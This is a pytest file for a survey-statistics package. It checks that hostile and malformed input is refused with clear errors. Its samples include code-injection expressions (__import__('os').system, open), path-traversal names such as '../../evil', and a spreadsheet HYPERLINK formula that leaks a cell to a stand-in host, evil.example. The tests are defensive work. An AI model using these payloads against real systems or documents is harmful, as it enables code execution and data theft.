"""Bad and hostile input (issue 13): each item asserts the exact outcome.

The error class, that the message names the row/key/file, that no file is
created or deleted, that formula cells are text, and the numbers.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from survey import expressions
from survey.errors import ColumnError, ConfigError, EditError, ExpressionError, SurveyError
from survey.pipeline.config import load_config, validate_config

MINIMAL = """
[survey]
name = "test"
seed = 7

[register]
file = "data/register.csv"
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "register.csv").write_text(
        "firm_id,county,industry,revenue_prev_year,above_size,in_bureau\n"
        "91450102000038F63T,Xingning,4215,1565.9,False,True\n", encoding="utf-8")
    return tmp_path


def _write(folder: Path, text: str, name: str = "survey.toml", encoding: str = "utf-8") -> Path:
    path = folder / name
    path.write_bytes(text.encode(encoding))
    return path


# --------------------------------------------------------------------------- item 2
HOSTILE = [
    "@Path('pwned').touch()",
    "__import__('os').system('touch pwned')",
    "county.__class__ == 1",
    "county[0] == 'X'",
    "(lambda: 1)() == 1",
    "open('pwned', 'w') == 1",
    "[c for c in county] == 1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_expression_refuses_code_before_touching_data(text, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ExpressionError, match="not allowed|not a valid expression"):
        expressions.parse(text)
    assert not (tmp_path / "pwned").exists()


def test_one_evaluator_for_filters_subsets_and_rules():
    df = pd.DataFrame({"county": ["A", "B", "A", None], "size": [10.0, 200.0, np.nan, 5.0],
                       "sch.wide": ["Yes", "No", "Yes", "Yes"]})
    assert expressions.mask("county == 'A' and size < 100", df).tolist() == [True, False, False, False]
    assert expressions.mask("county in ['A', 'B'] or size > 100", df).tolist() == [True, True, True, False]
    assert expressions.mask("not (size >= 10)", df).tolist() == [False, False, False, True]
    assert expressions.mask("`sch.wide` == 'Yes'", df).tolist() == [True, False, True, True]
    with pytest.raises(ExpressionError, match="compares text with a number"):
        expressions.mask("county == 450102", df)
    with pytest.raises(ExpressionError, match="column 'nope' is not in the data"):
        expressions.mask("nope > 1", df)
    # the edit-rule language is the same evaluator, numbers only
    from survey.returns.rules import Rule

    with pytest.raises(EditError, match="edit rule .*Attribute"):
        Rule(name="r", expression="a.__class__ > 0")
    with pytest.raises(EditError, match="Constant"):
        Rule(name="r", expression="a == 'x'")


def test_survey_subset_string_goes_through_the_restricted_evaluator(tmp_path, monkeypatch):
    import survey as sv

    monkeypatch.chdir(tmp_path)
    df = pd.DataFrame({"h": [1, 1, 2, 2], "w": [2.0, 2, 3, 3], "y": [1.0, 3, 2, 6]})
    s = sv.Survey(df, sv.Design(strata="h", weights="w"))
    assert s.subset("y > 1.5 and h == 2").total("y").estimate.tolist() == [24.0]
    with pytest.raises(ColumnError, match="subset"):
        s.subset("@pd.io.common.Path('pwned').touch()")
    assert not (tmp_path / "pwned").exists()


def test_plan_filter_cannot_run_code_and_validate_config_says_so(folder, monkeypatch):
    monkeypatch.chdir(folder)
    cfg = _write(folder, MINIMAL + '[plan]\nfilter = "@Path(\'pwned\').touch() or county == \'X\'"\n'
                 '[plan.cv]\nrevenue_prev_year = {total = 0.1}\n')
    problems = validate_config(cfg)
    assert any(p.startswith("plan.filter:") and "not a valid expression" in p for p in problems)
    from survey.plan.plan import read_register

    with pytest.raises(ConfigError, match=r"\[plan\] filter"):
        read_register({"register": "data/register.csv",
                       "filter": "@Path('pwned').touch() or county == 'X'"}, base=folder)
    assert not (folder / "pwned").exists()


def test_plan_filter_keeps_rows_and_unknown_filter_column_is_named(folder):
    from survey.plan.plan import read_register

    (folder / "data" / "register.csv").write_text(
        "firm_id,county,revenue_prev_year\nA1,Xingning,10\nA2,Qingxiu,20\nA3,Xingning,30\n")
    got = read_register({"register": "data/register.csv",
                         "filter": "county == 'Xingning' and revenue_prev_year > 15"}, base=folder)
    assert got["firm_id"].tolist() == ["A3"]
    cfg = _write(folder, MINIMAL + '[plan]\nfilter = "countyy == \'X\'"\n'
                 '[plan.cv]\nrevenue_prev_year = {total = 0.1}\n')
    problems = validate_config(cfg)
    assert any(p.startswith("plan.filter: column 'countyy'") and "did you mean 'county'" in p
               for p in problems), problems


# --------------------------------------------------------------------------- item 4
def test_relative_paths_may_not_leave_the_configuration_folder(folder, tmp_path_factory):
    outside = tmp_path_factory.mktemp("elsewhere")
    (outside / "reg.csv").write_text("firm_id,revenue_prev_year\nA,1\n")
    rel = Path("..") / outside.name / "reg.csv"
    cfg = _write(folder, MINIMAL.replace('"data/register.csv"', f'"{rel.as_posix()}"')
                 + '[ledger]\nfile = "../../ledger.duckdb"\n')
    problems = validate_config(cfg)
    assert any(p.startswith("register.file:") and "leads out of the configuration's folder" in p
               for p in problems), problems
    assert any(p.startswith("ledger.file:") for p in problems), problems
    # an absolute path is the user's choice
    cfg = _write(folder, MINIMAL.replace('"data/register.csv"', f'"{(outside / "reg.csv").as_posix()}"'))
    assert validate_config(cfg) == []


@pytest.mark.parametrize("name", ["../../evil", "a/b", "..", ".hidden", "x\\\\y"])
def test_channel_name_that_is_not_a_plain_name_is_refused_at_validation(folder, name):
    cfg = _write(folder, MINIMAL + f'[[channels]]\nname = "{name}"\nflag = "in_bureau"\n')
    problems = validate_config(cfg)
    assert any(p.startswith("channels[0].name:") and "plain name" in p for p in problems), problems


def test_chinese_channel_name_is_a_plain_name(folder):
    cfg = _write(folder, MINIMAL + '[[channels]]\nname = "统计局"\nflag = "in_bureau"\n')
    assert validate_config(cfg) == []


# --------------------------------------------------------------------------- item 12 (TOML)
@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8-sig"])
def test_toml_in_gbk_or_with_a_bom_is_read(folder, encoding):
    text = MINIMAL.replace('name = "test"', 'name = "广西二轻 季度统计"')
    cfg = _write(folder, text, encoding=encoding)
    config = load_config(cfg)
    assert config.survey.name == "广西二轻 季度统计"


def test_toml_in_an_unknown_encoding_names_the_file_and_the_fix(folder):
    cfg = folder / "survey.toml"
    cfg.write_bytes(MINIMAL.encode() + b'# \xff\xfe\xff\n')
    with pytest.raises(ConfigError, match=r"survey\.toml.*encoding.*UTF-8"):
        load_config(cfg)


def test_register_encoding_key_reads_a_big5_register(folder):
    (folder / "data" / "register.csv").write_bytes(
        "firm_id,縣,revenue_prev_year\nA1,臺北,10\n".encode("big5"))
    cfg = _write(folder, MINIMAL + 'encoding = "big5"\n')
    config = load_config(cfg)
    assert config.section("plan") == {} or True
    from survey.plan.plan import read_register

    plan = dict(config.section("plan") or {}, **{"register": str(config.register.file),
                                                "encoding": config.register.encoding})
    assert read_register(plan)["縣"].tolist() == ["臺北"]
    bad = _write(folder, MINIMAL + 'encoding = "klingon"\n')
    assert any(p.startswith("register.encoding: unknown encoding") for p in validate_config(bad))


# --------------------------------------------------------------------------- item 16
def test_validate_config_checks_the_published_period_and_the_register_file(folder):
    cfg = _write(folder, MINIMAL.replace('seed = 7', 'seed = 7\nperiod = "2007Q1"')
                 + '[estimate]\nvariables = ["gross_output"]\nperiods = ["2006Q3", "2006Q4"]\n')
    problems = validate_config(cfg)
    assert any(p.startswith("survey.period:") and "not among estimate.periods" in p
               for p in problems), problems
    cfg = _write(folder, MINIMAL.replace("data/register.csv", "data/nope.csv"))
    problems = validate_config(cfg)
    assert any(p.startswith("register.file: file not found") and "nope.csv" in p
               for p in problems), problems


# --------------------------------------------------------------------------- item 3
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formula_labels_are_text_in_the_bulletin_workbook_csv_and_html(tmp_path):
    import openpyxl

    from survey.publish.report import BulletinContent, BulletinTable, write_bulletin

    frame = pd.DataFrame({
        "county": [EVIL, "+SUM(A1:A9)", "-2+3", "@cmd", "宾阳县"], "variable": "gross_output",
        "estimate": [1.0, 2.0, 3.0, 4.0, 5.0], "se": 0.1, "cv": 0.05, "ci_low": 0.5, "ci_high": 9.0,
        "df": 40, "n": 10})
    content = BulletinContent(title="B", period="2006Q3", language="en",
                              tables=[BulletinTable(name="county", title="by county", frame=frame)])
    files = write_bulletin(content, tmp_path, formats=("html", "xlsx", "csv"))
    book = openpyxl.load_workbook(files.excel)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=")]
    assert [c.value for c in cells] == [EVIL]
    assert all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(files.excel) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    text = files.csv["county"].read_text(encoding="utf-8-sig")
    for label in (EVIL, "+SUM(A1:A9)", "-2+3", "@cmd"):
        assert "'" + label.replace('"', '""') in text, label
    assert "\n宾阳县," in text  # ordinary labels unchanged
    page = files.html.read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in page
    assert EVIL not in page


def test_write_table_and_workbook_write_formula_text_as_text(tmp_path):
    import openpyxl

    from survey.io import read_table, write_table

    frame = pd.DataFrame({"city": [EVIL, "\tx", "\rx", "-5", "南宁"], "v": [1.0, -2.0, 3, 4, 5]})
    csv = write_table(frame, tmp_path / "t.csv")
    back = read_table(csv)
    assert back["city"].tolist() == ["'" + EVIL, "'\tx", "'\rx", -5, "南宁"] or \
        back["city"].astype(str).tolist()[:3] == ["'" + EVIL, "'\tx", "'\rx"]
    assert back["v"].tolist() == [1.0, -2.0, 3, 4, 5]  # numbers are never prefixed
    xlsx = write_table(frame, tmp_path / "t.xlsx")
    cell = openpyxl.load_workbook(xlsx)["data"]["A2"]
    assert (cell.value, cell.data_type) == (EVIL, "s")


def test_disclosure_and_plan_csvs_protect_labels(tmp_path):
    from survey.plan import design_plan
    from survey.plan.plan import write_sample

    df = pd.DataFrame({"firm_id": [f"f{i}" for i in range(40)],
                       "region": ["=1+1"] * 20 + ["@A"] * 20,
                       "revenue": np.linspace(1, 100, 40)})
    plan = design_plan(df, {"revenue": {"total": 0.2}}, strata="region", size="revenue")
    paths = plan.to_csv(tmp_path)
    assert "'=1+1" in paths[0].read_text() and "'@A" in paths[0].read_text()
    out = write_sample(plan.select(seed=1), tmp_path, excel=True)
    assert "'=1+1" in out[0].read_text()
    import openpyxl

    ws = openpyxl.load_workbook(out[1])["sample"]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


# --------------------------------------------------------------------------- items 10 and 11
def _register(n: int = 40) -> pd.DataFrame:
    from survey.datasets import load_register

    reg = load_register()
    reg = reg[(reg["year"] == 2006) & reg["revenue_prev_year"].notna()].head(n).reset_index(drop=True)
    return reg[["firm_id", "city", "revenue_prev_year", "above_size"]]


def _corrupt(uscc: str) -> str:
    last = "0" if uscc[-1] != "0" else "1"
    return uscc[:-1] + last


def test_invalid_uscc_is_caught_where_the_frame_enters():
    from survey.errors import FrameError
    from survey.plan import design_plan
    from survey.register.frame import Frame

    reg = _register()
    assert Frame(reg, id="firm_id").N == 40  # valid USCCs pass
    bad = reg.copy()
    bad.loc[7, "firm_id"] = _corrupt(bad.loc[7, "firm_id"])
    with pytest.raises(FrameError, match=r"1 invalid USCC id\(s\) in column 'firm_id', rows 7"):
        design_plan(bad, {"revenue_prev_year": {"total": 0.2}}, size="revenue_prev_year")
    with pytest.raises(FrameError, match="rows 7"):
        Frame(bad, id="firm_id")
    assert Frame(bad, id="firm_id", check_ids=False).N == 40  # on purpose only
    # ids that are not USCC-shaped (toy examples, internal codes) are not checked by default
    assert Frame(pd.DataFrame({"firm_id": ["a", "b"]})).N == 2


@pytest.mark.parametrize("yes,no", [("Y", "N"), ("是", "否"), ("true", "false"), ("1", "0"),
                                    (1, 0), (True, False)])
def test_take_all_flag_given_as_text_is_parsed(yes, no):
    from survey.plan import design_plan

    reg = _register()
    flags = np.where(np.arange(40) < 5, yes, no)
    reg["above_size"] = pd.Series(list(flags), dtype=object) if isinstance(yes, str) else flags
    plan = design_plan(reg, {"revenue_prev_year": {"total": 0.3}}, size="revenue_prev_year",
                       take_all="above_size")
    assert int((plan.frame.data["part"] == "take_all").sum()) == 5


def test_take_all_flag_with_unknown_text_is_refused_naming_the_column():
    from survey.errors import FrameError
    from survey.plan import design_plan

    reg = _register()
    reg["above_size"] = ["Y"] * 5 + ["N"] * 30 + ["maybe"] * 5
    with pytest.raises(FrameError, match=r"column 'above_size' must hold yes/no values.*'maybe' in row 35"):
        design_plan(reg, {"revenue_prev_year": {"total": 0.3}}, size="revenue_prev_year",
                    take_all="above_size")


# --------------------------------------------------------------------------- items 5, 6 and 14 (ledger)
def _returns_csv(path: Path, ids: list[str], value: str = "1000.0") -> Path:
    lines = ["firm_id,gross_output_ytd,gross_output_ytd_last_year"]
    lines += [f"{i},{value},900.0" for i in ids]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _ids(n: int = 3) -> list[str]:
    return _register(n)["firm_id"].tolist()


def test_truncated_returns_file_is_rejected_whole_naming_the_line(tmp_path):
    from survey.errors import LedgerError
    from survey.form import DEMO_FORM
    from survey.returns.ledger import Ledger

    path = _returns_csv(tmp_path / "r.csv", _ids())
    path.write_bytes(path.read_bytes()[:-5])  # "1000.0,900.0\n" -> "1000.0,90"
    with Ledger.open(tmp_path / "l.duckdb", form=DEMO_FORM) as ledger:
        with pytest.raises(LedgerError, match=r"r\.csv.*line 4.*cut short"):
            ledger.ingest(path, "2006Q1", "bureau")
        assert ledger.to_frame("2006Q1").empty


def test_same_content_for_another_period_needs_confirmation(tmp_path):
    from survey.errors import LedgerError
    from survey.form import DEMO_FORM
    from survey.returns.ledger import Ledger

    path = _returns_csv(tmp_path / "r.csv", _ids())
    with Ledger.open(tmp_path / "l.duckdb", form=DEMO_FORM) as ledger:
        assert ledger.ingest(path, "2006Q3", "bureau").status == "loaded"
        with pytest.raises(LedgerError, match=r"'r\.csv' has the same content as 'r\.csv', "
                           r"loaded for 2006Q3 as file 1.*allow_same_content=True"):
            ledger.ingest(path, "2006Q4", "bureau")
        assert ledger.to_frame("2006Q4").empty
        assert ledger.ingest(path, "2006Q4", "bureau", allow_same_content=True).status == "loaded"
        assert ledger.ingest(path, "2006Q3", "bureau").status == "unchanged"  # same period


def test_header_only_file_is_not_reported_as_already_loaded(tmp_path):
    from survey.errors import LedgerError
    from survey.form import DEMO_FORM
    from survey.returns.ledger import Ledger

    path = tmp_path / "empty.csv"
    path.write_text("firm_id,gross_output_ytd,gross_output_ytd_last_year\n")
    with Ledger.open(tmp_path / "l.duckdb", form=DEMO_FORM) as ledger:
        with pytest.raises(LedgerError, match=r"'empty\.csv' has a header but no data rows"):
            ledger.ingest(path, "2006Q1", "bureau")


@pytest.mark.parametrize("damage", ["truncate", "garbage", "zero"])
def test_damaged_ledger_raises_ledger_error_naming_the_file_and_keeps_it(tmp_path, damage):
    import hashlib

    from survey.errors import LedgerError
    from survey.form import DEMO_FORM
    from survey.returns.ledger import Ledger

    file = tmp_path / "mine.duckdb"
    with Ledger.open(file, form=DEMO_FORM) as ledger:
        ledger.ingest(_returns_csv(tmp_path / "r.csv", _ids()), "2006Q1", "bureau")
    data = file.read_bytes()
    data = {"truncate": data[: len(data) // 3], "garbage": b"not a database " * 200,
            "zero": data[:4096] + bytes(len(data) - 4096)}[damage]
    file.write_bytes(data)
    before = hashlib.sha256(file.read_bytes()).hexdigest()
    with pytest.raises(LedgerError, match=r"the ledger '.*mine\.duckdb' is damaged") as info:
        with Ledger.open(file, form=DEMO_FORM) as ledger:  # may open: the damage is in the data
            ledger.to_frame("2006Q1")
    assert "one writing process" not in str(info.value)
    assert hashlib.sha256(file.read_bytes()).hexdigest() == before


def test_raw_header_shows_repeated_and_empty_columns(tmp_path):
    from survey.errors import LedgerError
    from survey.form import DEMO_FORM
    from survey.returns.ledger import Ledger

    ids = _ids(1)
    twice = tmp_path / "twice.csv"
    twice.write_text(f"firm_id,gross_output_ytd,gross_output_ytd\n{ids[0]},1.0,2.0\n")
    empty = tmp_path / "empty_col.csv"
    empty.write_text(f"firm_id,gross_output_ytd,\n{ids[0]},1.0,\n")
    with Ledger.open(tmp_path / "l.duckdb", form=DEMO_FORM) as ledger:
        with pytest.raises(LedgerError, match=r"twice\.csv.*gross_output_ytd: column appears twice"):
            ledger.ingest(twice, "2006Q1", "bureau")
        with pytest.raises(LedgerError, match=r"empty_col\.csv.*column 3: column has no name"):
            ledger.ingest(empty, "2006Q1", "bureau")


# --------------------------------------------------------------------------- items 7, 8, 9, 15 (estimation)
def _stratified(fpc_scale: float = 1.0, weight_scale: float = 1.0) -> pd.DataFrame:
    """Two strata: N = (40, 60), n = (4, 6): weights N/n = 10."""
    h = np.repeat(["a", "b"], [4, 6])
    N = np.where(h == "a", 40.0, 60.0)
    return pd.DataFrame({"h": h, "N": N * fpc_scale, "w": 10.0 * weight_scale,
                         "y": np.arange(1.0, 11.0)})


def test_weights_consistent_with_fpc_pass_silently():
    import warnings

    import survey as sv

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        s = sv.Survey(_stratified(), sv.Design(strata="h", weights="w", fpc="N"), strict=True)
    # fpc given as a sampling fraction (n/N) is the same design
    df = _stratified().assign(f=lambda d: np.where(d["h"] == "a", 0.1, 0.1))
    s2 = sv.Survey(df, sv.Design(strata="h", weights="w", fpc="f"), strict=True)
    assert s.total("y").se == pytest.approx(s2.total("y").se)


def test_weights_ten_times_n_over_n_warn_listing_strata_and_error_when_strict():
    import survey as sv
    from survey.errors import DesignError, SurveyWarning

    df = _stratified(weight_scale=10.0)
    with pytest.warns(SurveyWarning, match=r"in 2 strata.*a: weights add up to 400, fpc N_h = 40 "
                      r"\(ratio 10\); b: weights add up to 600, fpc N_h = 60"):
        sv.Survey(df, sv.Design(strata="h", weights="w", fpc="N"))
    with pytest.raises(DesignError, match="a percentage such as 50 for 50% is read as N_h = 50"):
        sv.Survey(df, sv.Design(strata="h", weights="w", fpc="N"), strict=True)


def test_fpc_typed_as_a_percentage_is_caught():
    import survey as sv
    from survey.errors import DesignError

    # 50% sampled: N = 8 and 12, weights 2; the fpc column holds 50 (per cent)
    df = _stratified().assign(w=2.0, N=50.0)
    with pytest.raises(DesignError, match=r"a: weights add up to 8, fpc N_h = 50"):
        sv.Survey(df, sv.Design(strata="h", weights="w", fpc="N"), strict=True)


@pytest.mark.parametrize("role", ["by", "strata"])
def test_codes_mixing_text_and_numbers_are_refused(role):
    import survey as sv

    df = pd.DataFrame({"w": 1.0, "y": [1.0, 2, 3, 4],
                       "c": pd.Series(["450102", 450102, "450103", 450103], dtype=object)})
    if role == "by":
        with pytest.raises(ColumnError, match=r"domain column 'c' mixes text and numbers.*"
                           r"'450102' \(text, row 0\) and 450102 \(number, row 1\) and 1 more"):
            sv.Survey(df, sv.Design(weights="w")).total("y", by="c")
    else:
        with pytest.raises(ColumnError, match=r"stratum column 'c' mixes text and numbers"):
            sv.Survey(df, sv.Design(weights="w", strata="c"))
    # the same column made one type gives 2 domains
    one = df.assign(c=df["c"].astype(str))
    est = sv.Survey(one, sv.Design(weights="w")).total("y", by="c")
    assert est.estimate.tolist() == [3.0, 7.0]


def test_lonely_average_without_any_two_psu_stratum_gives_nan_not_zero():
    """R: svytotal(~y, svydesign(ids=~1, strata=~h, weights=~w, data=df)) with
    options(survey.lonely.psu="average") and one PSU per stratum gives SE NaN."""
    import survey as sv

    df = pd.DataFrame({"h": [1, 2, 3], "w": [2.0, 3, 4], "y": [1.0, 2, 3]})
    est = sv.Survey(df, sv.Design(strata="h", weights="w", lonely_psu="average")).total("y")
    assert est.estimate.tolist() == [20.0]
    assert np.isnan(est.se[0])
    # with one two-PSU stratum the average is defined (and positive)
    df2 = pd.concat([df, pd.DataFrame({"h": [3], "w": [4.0], "y": [5.0]})], ignore_index=True)
    est2 = sv.Survey(df2, sv.Design(strata="h", weights="w", lonely_psu="average")).total("y")
    assert est2.se[0] > 0


def test_nan_estimate_never_has_se_zero():
    import survey as sv

    df = pd.DataFrame({"w": [1.0, 1, 1], "y": [np.nan, np.nan, 1.0], "x": [0.0, 0, 0],
                       "d": ["a", "a", "b"]})
    s = sv.Survey(df, sv.Design(weights="w"))
    table = s.mean("y", by="d", na="drop").table()
    assert np.isnan(table.loc[0, "estimate"]) and np.isnan(table.loc[0, "se"])
    ratio = s.ratio("x", "x")
    assert np.isnan(ratio.estimate[0]) and np.isnan(ratio.se[0])


def test_infinite_value_is_an_error_naming_rows_not_missing():
    import survey as sv

    df = pd.DataFrame({"w": [1.0, 1, 1], "y": [1.0, np.inf, 2.0]})
    with pytest.raises(ColumnError, match=r"column 'y' has 1 infinite value\(s\), first at rows \[1\]"):
        sv.Survey(df, sv.Design(weights="w")).total("y", na="drop")


def test_overflowing_weights_are_an_error():
    import survey as sv
    from survey.errors import WeightError

    df = pd.DataFrame({"w": [1e308, 1e308], "y": [1.0, 2.0]})
    with pytest.raises(WeightError, match="overflows"):
        sv.Survey(df, sv.Design(weights="w")).total("y")


def test_linear_calibration_needing_negative_weights_names_the_constraint():
    import survey as sv
    from survey.errors import CalibrationError

    df = pd.DataFrame({"w": [10.0] * 6, "x": [1.0, 2, 3, 4, 5, 100],
                       "g": ["a", "a", "a", "b", "b", "b"]})
    s = sv.Survey(df, sv.Design(weights="w"))
    with pytest.raises(CalibrationError, match=r"needs negative weights for 1 unit\(s\) \(rows \[5\].*"
                       r"driving them: 'x' \(target 150 against 1150.*bounds.*raking"):
        s.calibrate({"x": 150.0, "g": {"a": 30.0, "b": 30.0}})
    raked = s.calibrate({"x": 150.0, "g": {"a": 30.0, "b": 30.0}}, method="raking")
    assert (raked.weights >= 0).all()
    assert float((raked.weights * df["x"]).sum()) == pytest.approx(150.0)


# --------------------------------------------------------------------------- the `survey` command
def _hashes(folder: Path) -> dict[str, str]:
    import hashlib

    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _survey(*args: str, cwd: Path) -> "subprocess.CompletedProcess[str]":
    import subprocess
    import sys

    return subprocess.run([sys.executable, "-m", "survey.cli", *args], cwd=cwd,
                          capture_output=True, text=True, timeout=600)


def _cases(folder: Path) -> list[tuple[list[str], str]]:
    """(arguments, text the message must contain) for each bad input, files made in folder."""
    ids = _ids(3)
    cut = folder / "cut.csv"
    cut.write_text("h,w,y\n" + "".join(f"a,10.0,{1000.0 + i:.1f}\n" for i in range(3)) + "b,10.0,10")
    fake = folder / "fake.xlsx"
    fake.write_text("h,w,y\na,1,2\n")
    gbk = folder / "gbk.csv"
    gbk.write_bytes("层,w,y\n甲,1.0,2.0\n乙,1.0,3.0\n".encode("gbk"))
    inf = folder / "inf.csv"
    inf.write_text("h,w,y\na,1.0,1.0\na,1.0,inf\n")
    mixed = folder / "mixed.csv"  # a fpc typed as a percentage with weights N/n
    mixed.write_text("h,w,N,y\n" + "".join(f"a,2.0,50,{i}.0\n" for i in range(4)))
    (folder / "data").mkdir(exist_ok=True)
    (folder / "data" / "register.csv").write_text(
        "firm_id,county,revenue_prev_year\n" + "".join(f"{i},X,{k + 1}.0\n" for k, i in enumerate(ids)))
    hostile = _write(folder, MINIMAL + '[plan]\nfilter = "@Path(\'pwned\').touch() or county == \'X\'"\n'
                     '[plan.cv]\nrevenue_prev_year = {total = 0.1}\n', name="hostile.toml")
    escaping = _write(folder, MINIMAL.replace("data/register.csv", "../outside.csv"), name="escape.toml")
    channel = _write(folder, MINIMAL + '[[channels]]\nname = "../../evil"\nflag = "in_bureau"\n',
                     name="channel.toml")
    (folder / "a_file").write_text("not a folder")
    ledger = folder / "damaged" / "ledger.duckdb"
    ledger.parent.mkdir()
    ledger.write_bytes(b"not a database " * 300)
    from survey.pipeline import DEMO_CONFIG

    return [
        (["estimate", str(cut), "--weights", "w", "--total", "y"], "cut short"),
        (["estimate", str(fake), "--total", "y"], "not an Excel workbook"),
        (["estimate", str(inf), "--weights", "w", "--total", "y", "--na", "drop"],
         "infinite value"),
        (["estimate", str(folder / "nope.csv"), "--total", "y"], "file not found"),
        (["plan", str(hostile), "--output", str(folder / "out")], "plan.filter"),
        (["plan", str(escaping), "--output", str(folder / "out")], "leads out of the configuration"),
        (["plan", str(channel), "--output", str(folder / "out")], "plain name"),
        (["plan", str(DEMO_CONFIG), "--output", str(folder / "a_file")], "a_file"),
        (["ingest", str(DEMO_CONFIG), "2006Q4", "--output", str(folder / "out2")], "PERIOD=FILE"),
        (["ingest", str(DEMO_CONFIG), f"2031Q1={cut}", "--output", str(folder / "out3")],
         "not among the survey's periods"),
        (["estimate", str(DEMO_CONFIG), "--output", str(folder / "damaged")], "damaged"),
        (["demo", "--output", str(folder)], "not empty and was not written by `survey demo`"),
    ]


def test_every_bad_input_exits_2_with_a_short_message_and_no_file_changed(tmp_path, capsys):
    from survey.cli import main

    cases = _cases(tmp_path)
    for args, text in cases:
        before = _hashes(tmp_path)
        code = main(args)
        err = capsys.readouterr().err
        assert code == 2, (args, err)
        assert text in err, (args, err)
        assert "Traceback" not in err, (args, err)
        lines = [x for x in err.strip().splitlines() if not x.startswith("survey: warning")]
        assert lines[0].startswith("survey: error:"), (args, err)
        after = _hashes(tmp_path)
        assert {k: v for k, v in after.items() if k in before} == before, args  # nothing changed
        assert set(after) - set(before) <= {"out/plan"}, (args, set(after) - set(before))
    assert not (tmp_path / "pwned").exists()


def test_the_survey_command_itself_prints_no_traceback(tmp_path):
    cases = _cases(tmp_path)
    for args, text in cases[:3] + cases[4:5]:
        before = _hashes(tmp_path)
        done = _survey(*args, cwd=tmp_path)
        assert done.returncode == 2, (args, done.stderr)
        assert text in done.stderr and "Traceback" not in done.stderr, (args, done.stderr)
        message = [x for x in done.stderr.strip().splitlines() if not x.startswith("survey: warning")]
        assert len(message) <= 2, done.stderr
        assert _hashes(tmp_path) == before
    debug = _survey("--debug", *cases[0][0], cwd=tmp_path)  # --debug shows the traceback
    assert debug.returncode == 1 and "Traceback" in debug.stderr


def test_ctrl_c_prints_interrupted_and_exits_130(tmp_path, capsys, monkeypatch):
    import survey.pipeline.demo as demo
    from survey.cli import main

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(demo, "run_demo", interrupted)
    assert main(["demo", "--output", str(tmp_path / "d")]) == 130
    err = capsys.readouterr().err
    assert "interrupted; the ledger is unchanged or complete" in err and "Traceback" not in err


def test_the_survey_command_reads_gbk_and_fpc_warning(tmp_path, capsys):
    from survey.cli import main

    _cases(tmp_path)
    assert main(["estimate", str(tmp_path / "gbk.csv"), "--weights", "w", "--total", "y",
                 "--format", "csv"]) == 0
    assert "total,y,5.0" in capsys.readouterr().out.replace("\r", "")


# --------------------------------------------------------------------------- speed of disclosure control
def _big_table(kind: str, seed: int = 1) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    if kind == "3000 firms":
        r, c = rng.integers(0, 60, 3000), rng.integers(0, 40, 3000)
    else:  # 1,000 one-firm cells among 3,000 firms
        cells = rng.choice(2400, 1000, replace=False)
        rest = rng.choice(np.setdiff1d(np.arange(2400), cells), 2000)
        both = np.concatenate([cells, rest])
        r, c = both // 40, both % 40
    return pd.DataFrame({"row": [f"r{i:02d}" for i in r], "col": [f"c{j:02d}" for j in c],
                         "v": rng.lognormal(5, 1, r.size)})


@pytest.mark.parametrize("kind", ["3000 firms", "1000 one-firm cells"])
def test_disclosure_of_a_60_by_40_table_is_fast_and_audited(kind):
    """Before issue 13 the 3000-firm table needed 17,654 linear programmes (431 s on the
    loaded test machine, about 70 s idle); then 5,815: the secondary step finds most
    certificates as rectangles of suppressed cells and its rounds are verified by the final
    audit. Now 3,779 (1,000 one-firm cells: 7,702 -> 5,468): a cell that an earlier
    solution of the same model put at 0 has minimum 0 without an LP. Same suppressed
    cells as before (hash of their indices, taken from main 18ad0c5). Its speed is checked by
    the count of linear programmes, not by a clock (benchmarks/ time it)."""
    import hashlib

    from survey.publish.disclosure import protect_table

    df = _big_table(kind)
    pt = protect_table(df, "v", rows="row", columns="col")
    assert pt.audit["protected"].all()
    primary = int((pt.audit["status"] == "primary").sum())
    assert primary > 1000
    # the audit alone needs two LPs per suppressed cell (plus the singleton check)
    assert pt.linear_programs < 3.2 * int(pt.suppressed.sum()), pt.linear_programs
    idx = np.flatnonzero(pt.suppressed).astype(np.int64)
    assert (idx.size, hashlib.sha256(idx.tobytes()).hexdigest()[:16]) == {
        "3000 firms": (1444, "9ddac9cc0b52d031"),
        "1000 one-firm cells": (1863, "3581cb50c07379ee")}[kind]
